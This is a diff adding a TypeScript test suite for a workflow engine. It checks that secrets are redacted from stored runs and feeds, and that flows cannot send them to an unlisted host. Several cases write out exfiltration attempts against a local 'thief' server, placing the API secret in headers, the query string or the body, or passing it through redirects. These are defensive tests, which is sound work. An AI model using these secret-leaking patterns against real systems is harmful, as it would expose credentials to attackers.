@@ -1,0 +1,310 @@
+// Secrets: where they are sent, and that they come back nowhere.
+import { setTimeout as pause } from 'node:timers/promises'
+import { sql } from 'kysely'
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
+import { z } from 'zod'
+import { mayGetSecrets, readReach } from '../../../src/flows/world/reach.ts'
+import { defineFlow, defineOperation, type FlowsOptions, operationTypes } from '../../../src/flows.ts'
+import { createItem, listItems } from '../../../src/index.ts'
+import { createFeed, localSource, watchItems } from '../../../src/realtime.ts'
+import { databases } from '../../support/databases.ts'
+import {
+  type World as AttackedWorld,
+  type OpenedWorld,
+  openWorld as openAttacked,
+} from '../attacked-world.ts'
+import { openWorld, type World } from '../runs/world.ts'
+import { echo, serve, type TestServer } from './servers.ts'
+
+const key = 'sk/live "of+the host"'
+const other = 'another-secret-of-the-host'
+const secrets = { API: key, OTHER: other }
+/** Every form in which the secret is sent. */
+const forms = [key, encodeURIComponent(key), 'sk%2Flive+', 'sk/live \\"', other]
+const fetch = globalThis.fetch as NonNullable<FlowsOptions['fetch']>
+
+let server: TestServer
+let thief: TestServer
+beforeAll(async () => {
+  thief = await serve(echo, '127.0.0.1')
+  server = await serve((request, response, body) => {
+    const { pathname, searchParams } = new URL(request.url ?? '', 'http://localhost')
+    if (pathname === '/moved') response.writeHead(307, { location: searchParams.get('to') ?? '' }).end()
+    else if (pathname === '/broken')
+      response.end(`{ no JSON: ${JSON.stringify(request.headers.authorization)} ${request.url}`)
+    else {
+      if (pathname === '/refused') response.statusCode = 403
+      echo(request, response, body)
+    }
+  }, '127.0.0.1')
+})
+afterAll(async () => {
+  await server.close()
+  await thief.close()
+})
+
+const at = (path = '') => `http://127.0.0.1:${server.port}${path}`
+const atThief = (path = '') => `http://127.0.0.1:${thief.port}${path}`
+
+/** Everything that stands in the tables of runs. */
+async function stored({ db }: Pick<World, 'db'>): Promise<string> {
+  const tables = ['quernel_runs', 'quernel_steps', 'quernel_flows']
+  const all = await Promise.all(tables.map((table) => sql.raw(`select * from ${table}`).execute(db)))
+  return JSON.stringify(all.map(({ rows }) => rows))
+}
+
+describe.each(databases)('on $name', (database) => {
+  describe('a server that answers with what it was sent', () => {
+    let world: World
+    afterEach(() => world.close())
+
+    it.each(['/', '/refused', '/broken'])(
+      'puts no secret into the chain, rows and frames: %s',
+      async (path) => {
+        world = await openWorld(database)
+        const definition = defineFlow({
+          name: 'call',
+          trigger: { on: 'flow', returns: '$all' },
+          access: 'nobody',
+          first: 'called',
+          operations: {
+            called: {
+              type: 'request',
+              options: {
+                url: `${at(path)}?key={{ $env.API }}&path={{ $env.OTHER }}`,
+                method: 'POST',
+                headers: [
+                  { header: 'authorization', value: 'Bearer {{ $env.API }}' },
+                  { header: 'x-{{ $trigger.name }}', value: '{{ $env.OTHER }}' },
+                ],
+                body: { key: '{{ $env.API }}', text: 'is {{ $env.OTHER }}' },
+              },
+              resolve: 'seen',
+              reject: 'seen',
+            },
+            seen: { type: 'transform', options: { json: { all: '{{ called }}', last: '{{ $last }}' } } },
+          },
+        })
+        const errors: unknown[] = []
+        const flows = await world.flows({
+          fetch,
+          secrets,
+          onError: (error) => errors.push(error),
+          flows: [definition],
+        })
+        const feed = createFeed(world.engine, { source: localSource() })
+        const frames: unknown[] = []
+        const watched = watchItems(
+          feed.as({ admin: true }),
+          'quernel_steps' as never,
+          { fields: ['*', 'run.*'] } as never,
+        )
+        const reading = (async () => {
+          for await (const frame of watched) frames.push(frame)
+        })()
+        await flows.start()
+        const inline = await flows.run('call', { name: 'own' }, { inline: true })
+        const kept = await flows.run('call', { name: 'own' })
+        expect([inline.state, kept.state]).toEqual(['succeeded', 'succeeded'])
+        for (let tries = 0; tries < 500 && !JSON.stringify(frames).includes('--redacted--'); tries++)
+          await pause(20)
+        await watched.return()
+        await reading
+        await feed.stop()
+        const shown = JSON.stringify([inline, kept, frames, errors])
+        const rows = await stored(world)
+        for (const text of [shown, rows]) {
+          for (const form of forms) {
+            expect(text).not.toContain(form)
+            expect(text).not.toContain(JSON.stringify(form).slice(1, -1))
+          }
+          expect(text).toContain('--redacted--')
+        }
+        expect(errors).toEqual([])
+      },
+    )
+
+    it('is asked once again where that may help, each time under the same key', async () => {
+      world = await openWorld(database)
+      const seen: unknown[] = []
+      const statuses = [503, 429, 404]
+      const failing = await serve(({ headers }, response) => {
+        seen.push(headers['idempotency-key'])
+        response.statusCode = statuses[seen.length - 1] ?? 200
+        response.end()
+      }, '127.0.0.1')
+      const flows = await world.flows({
+        fetch,
+        flows: [
+          defineFlow({
+            name: 'call',
+            trigger: { on: 'flow' },
+            access: 'nobody',
+            first: 'called',
+            retry: { times: 5, delayMs: 1 },
+            operations: {
+              called: {
+                type: 'request',
+                options: { url: `http://127.0.0.1:${failing.port}/`, method: 'POST' },
+              },
+            },
+          }),
+        ],
+      })
+      await flows.start()
+      const run = await flows.run('call', {})
+      await failing.close()
+      expect(run).toMatchObject({ state: 'failed', error: { extensions: { status: 404 } } })
+      expect(seen).toEqual(Array(3).fill(`${run.id}/1/called`))
+    })
+  })
+
+  describe('the row of an author', () => {
+    let world: OpenedWorld
+    afterEach(() => world.close())
+
+    const operations = ['request', 'item-create', 'json-web-token', 'own']
+    const own = defineOperation({
+      kind: 'outside',
+      doc: 'Sends a text somewhere.',
+      options: { key: { schema: z.string(), doc: 'The key.', isSecret: true } },
+      run: () => null,
+    })
+
+    async function open({ limits, ...more }: Partial<AttackedWorld> = {}) {
+      world = await openAttacked(database, {
+        fetch,
+        secrets,
+        operationTypes: { ...operationTypes, own },
+        limits: { operations, secrets: { API: [at()] }, ...limits },
+        engineOptions: { flows: {} },
+        ...more,
+      })
+      return world
+    }
+
+    /** What the row of an author has done for a new article. */
+    async function ran(options: object, more: Partial<AttackedWorld> = {}) {
+      await open(more)
+      await world.plant({
+        trigger: { on: 'items.create', collections: ['articles'], when: 'after' },
+        first: 'called',
+        operations: { called: { type: 'request', options } },
+      })
+      expect(world.problems()).toEqual({})
+      await createItem(world.boss, 'articles', { title: 'Hidden cake' })
+      for (;;) {
+        const { data } = await listItems(
+          world.engine,
+          'quernel_runs' as never,
+          { fields: ['*', 'steps.*'] } as never,
+        )
+        const [run] = data as unknown as readonly Record<string, never>[]
+        if (run && ['failed', 'succeeded'].includes(run.state ?? '')) return run
+        await pause(20)
+      }
+    }
+
+    const bearer = [{ header: 'authorization', value: 'Bearer {{ $env.API }}' }]
+    const refused = {
+      state: 'failed',
+      error: { code: 'FORBIDDEN', message: 'This address may not be called by a flow.' },
+    }
+    const wide = {
+      rights: { user: 7, rules: { flows: { create: true, read: true }, articles: { read: true } } },
+    } as const
+
+    it('sends a secret to the host that is named beside it', async () => {
+      const before = server.requests.length
+      expect(await ran({ url: at('/ok'), headers: bearer }, wide)).toMatchObject({ state: 'succeeded' })
+      expect(server.requests.slice(before)).toEqual(['GET /ok'])
+    })
+
+    it.each([
+      ['directly', () => ({ url: atThief('/'), headers: bearer })],
+      ['in the address', () => ({ url: `${atThief('/')}?k={{ $env.API }}` })],
+      ['in the body', () => ({ url: atThief('/'), method: 'POST', body: { a: ['{{ $env.API }}'] } })],
+      ['under another name', () => ({ url: `http://localhost:${server.port}/`, headers: bearer })],
+      [
+        'by a redirect',
+        () => ({ url: `${at('/moved')}?to=${encodeURIComponent(atThief('/'))}`, headers: bearer }),
+      ],
+      [
+        'by a redirect that takes it along',
+        () => ({ url: `${at('/moved')}?to=${encodeURIComponent(`${atThief('/')}?k=`)}{{ $env.API }}` }),
+      ],
+      [
+        'by a redirect of its body',
+        () => ({
+          url: `${at('/moved')}?to=${encodeURIComponent(atThief('/'))}`,
+          method: 'POST',
+          body: '{{ $env.API }}',
+        }),
+      ],
+    ] as const)('sends a secret nowhere else: %s', async (_, options) => {
+      expect(await ran(options(), wide)).toMatchObject(refused)
+      expect(thief.requests).toEqual([])
+    })
+
+    it('sends a secret to no host that a value names, either', async () => {
+      const limits = { operations, secrets: { API: [at()] }, hosts: [atThief(), at()] }
+      const options = { url: '{{ $trigger.payload.title }}', headers: bearer }
+      await open({ limits, ...wide })
+      await world.plant({
+        trigger: { on: 'items.create', collections: ['articles'], when: 'after' },
+        first: 'called',
+        operations: { called: { type: 'request', options } },
+      })
+      await createItem(world.boss, 'articles', { title: atThief('/') })
+      await createItem(world.boss, 'articles', { title: at('/named') })
+      await createItem(world.boss, 'articles', { title: 'https://example.com/' })
+      for (;;) {
+        const { data } = await listItems(
+          world.engine,
+          'quernel_runs' as never,
+          { fields: ['state'], sort: ['number'] } as never,
+        )
+        const states = (data as unknown as readonly { state: string }[]).map(({ state }) => state)
+        if (states.length < 3 || states.some((state) => !['failed', 'succeeded'].includes(state))) {
+          await pause(20)
+          continue
+        }
+        expect(states).toEqual(['failed', 'succeeded', 'failed'])
+        break
+      }
+      expect(thief.requests).toEqual([])
+    })
+
+    it('names no host by a value, and no secret that is not for it', async () => {
+      await open()
+      const plant = (name: string, type: string, options: object) =>
+        world.plant({
+          name,
+          trigger: { on: 'items.create', collections: ['articles'], when: 'after' },
+          first: 'called',
+          operations: { called: { type, options } },
+        })
+      await plant('host', 'request', { url: '{{ $trigger.payload.title }}' })
+      await plant('unnamed', 'request', { url: at('/'), body: '{{ $env.OTHER }}', method: 'POST' })
+      await plant('inherited', 'request', { url: at('/'), body: '{{ $env.constructor }}', method: 'POST' })
+      await plant('chain', 'item-create', { collection: 'leaks', payload: { text: '{{ $env.API }}' } })
+      await plant('own', 'own', { key: '{{ $env.API }}' })
+      await plant('written', 'request', { url: `${at('/')}${key}` })
+      expect(world.problems()).toEqual({
+        host: ['A template names the host of this address, and no hosts are listed for that.'],
+        unnamed: ['Flows of this collection may not use the secret "OTHER".'],
+        inherited: ['Flows of this collection may not use the secret "constructor".'],
+        chain: ['A secret stands in the options that are made for secrets alone.'],
+        own: ['A secret of a row is none for operations of which nobody knows where they send it.'],
+        written: ['The text of the secret "API" stands in the definition.'],
+      })
+    })
+  })
+})
+
+it('the row of an author that a process without its collection takes up sends nothing', () => {
+  const reach = readReach([], new Map([['flows', { secrets: { API: [at()] } }]]))
+  const operation = { secrets: new Set(['API']) } as never // all that is looked at
+  const allowed = (collection?: string) => mayGetSecrets(operation, reach({ isRow: true, collection }), at())
+  expect([allowed('flows'), allowed('others'), allowed()]).toEqual([true, false, false])
+})
